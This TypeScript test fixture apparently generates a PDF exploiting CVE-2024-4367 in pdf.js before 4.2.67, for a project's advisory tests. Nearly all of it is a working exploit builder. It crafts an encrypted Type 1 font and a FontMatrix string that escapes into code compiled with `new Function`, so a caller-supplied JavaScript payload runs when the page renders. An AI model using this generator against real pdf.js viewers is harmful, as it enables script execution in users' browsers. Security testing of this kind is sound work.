// A PDF that exploits GHSA-wgrm-67xf-hhpq (CVE-2024-4367) in pdf.js < 4.2.67, for the tests of docs/security.md
// ("pdf.js advisory"). Its page draws text in an embedded Type 1 font whose font dictionary has a FontMatrix
// with a string in it. pdf.js keeps that matrix (the font program declares none) and, when it draws glyphs
// as paths (here: the text is filled with a pattern), writes the matrix into the source of the glyph's path
// function; with `isEvalSupported` true it compiles that source with `new Function`, so the string runs as
// script. A second line, in a standard font, gives the page a text layer to wait for.
// Made here rather than committed as a binary so that what it does can be read.

/** The glyph drawn for every letter of the crafted line: a box (Type 1 charstring operators, in order). */
const BOX = [[0, 600, 13], [50, 0, 21], [500, 0, 5], [0, 700, 5], [-500, 0, 5], [9], [14]];
const NOTDEF = [[0, 250, 13], [14]];
/** The letters of the crafted line (each must be in the font's StandardEncoding and have a glyph). */
export const CRAFTED_TEXT = 'BASALT';
/** The line in a standard font, which pdf.js puts in the text layer. */
export const PLAIN_TEXT = 'Crafted font test page';

/** Type 1 charstring encoding of numbers and operators (Adobe Type 1 Font Format, 6.2). */
function charstring(ops: number[][]): number[] {
  const out: number[] = [];
  for (const op of ops) {
    const operator = op[op.length - 1]!;
    for (const v of op.slice(0, -1)) {
      if (v >= -107 && v <= 107) out.push(v + 139);
      else if (v >= 108 && v <= 1131) out.push(((v - 108) >> 8) + 247, (v - 108) & 0xff);
      else if (v <= -108 && v >= -1131) out.push(((-v - 108) >> 8) + 251, (-v - 108) & 0xff);
      else out.push(255, (v >>> 24) & 0xff, (v >>> 16) & 0xff, (v >>> 8) & 0xff, v & 0xff);
    }
    out.push(operator);
  }
  return out;
}

/** Type 1 encryption (eexec key 55665, charstring key 4330), after four lead bytes. */
function encrypt(plain: number[], key: number): Buffer {
  let r = key;
  return Buffer.from([0, 0, 0, 0, ...plain].map((p) => {
    const c = p ^ (r >> 8);
    r = ((c + r) * 52845 + 22719) & 0xffff;
    return c;
  }));
}

/** A Type 1 font program without a FontMatrix of its own: the PDF font dictionary's one is used. */
function type1Font(): { program: Buffer; length1: number; length2: number } {
  const clear = Buffer.from(
    '%!FontType1-1.0: Crafted 001.000\n12 dict begin\n/FontName /Crafted def\n/PaintType 0 def\n/FontType 1 def\n' +
      '/FontBBox {0 0 600 700} readonly def\n/Encoding StandardEncoding def\ncurrentdict end\ncurrentfile eexec\n',
    'latin1',
  );
  const glyph = (name: string, ops: number[][]) => {
    const bytes = encrypt(charstring(ops), 4330);
    return Buffer.concat([Buffer.from(`/${name} ${bytes.length} RD `, 'latin1'), bytes, Buffer.from(' ND\n', 'latin1')]);
  };
  const letters = [...new Set(CRAFTED_TEXT)];
  const priv = Buffer.concat([
    Buffer.from(
      'dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} executeonly def\n' +
        '/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/BlueValues [] ND\n' +
        `/MinFeature {16 16} ND\n/password 5839 def\n2 index /CharStrings ${letters.length + 1} dict dup begin\n`,
      'latin1',
    ),
    glyph('.notdef', NOTDEF),
    ...letters.map((l) => glyph(l, BOX)),
    Buffer.from('end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n', 'latin1'),
  ]);
  const secret = encrypt([...priv], 55665);
  const trailer = Buffer.from(`${'0'.repeat(64)}\n`.repeat(8) + 'cleartomark\n', 'latin1');
  return { program: Buffer.concat([clear, secret, trailer]), length1: clear.length, length2: secret.length };
}

/** PDF literal string escaping. */
const literal = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

/** A one-page PDF with objects 1..n and a correct cross-reference table. */
function pdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let size = parts[0]!.length;
  objects.forEach((body, i) => {
    const bytes = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(body as string | Buffer), Buffer.from('\nendobj\n')]);
    offsets.push(size);
    size += bytes.length;
    parts.push(bytes);
  });
  const xref = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n` +
        `startxref\n${size}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/**
 * The crafted PDF. `payload` is JavaScript that pdf.js would run while drawing the page if it compiled font
 * paths with `new Function` (it runs once per glyph drawn; the `//` after it comments out the rest).
 */
export function craftedFontPdf(payload: string): Buffer {
  const font = type1Font();
  const content = Buffer.from(
    `BT /Pattern cs /P1 scn /F1 72 Tf 60 600 Td (${CRAFTED_TEXT}) Tj ET\n` +
      `BT 0 g /F2 24 Tf 60 480 Td (${literal(PLAIN_TEXT)}) Tj ET`,
    'latin1',
  );
  const matrix = `[0.001 0 0 0.001 0 (0\\); ${literal(payload)}\n//)]`;
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ' +
      '/Resources << /Font << /F1 5 0 R /F2 8 0 R >> /Pattern << /P1 7 0 R >> >> >>',
    stream('', content),
    `<< /Type /Font /Subtype /Type1 /BaseFont /Crafted /FontDescriptor 6 0 R /FontMatrix ${matrix} >>`,
    '<< /Type /FontDescriptor /FontName /Crafted /Flags 32 /FontBBox [0 0 600 700] /ItalicAngle 0 ' +
      '/Ascent 700 /Descent 0 /CapHeight 700 /StemV 80 /FontFile 9 0 R >>',
    stream(
      '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 8 8] /XStep 8 /YStep 8 /Resources << >>',
      Buffer.from('0.1 0.3 0.6 rg 0 0 4 4 re f'),
    ),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    stream(`/Length1 ${font.length1} /Length2 ${font.length2} /Length3 0`, font.program),
  ]);
}
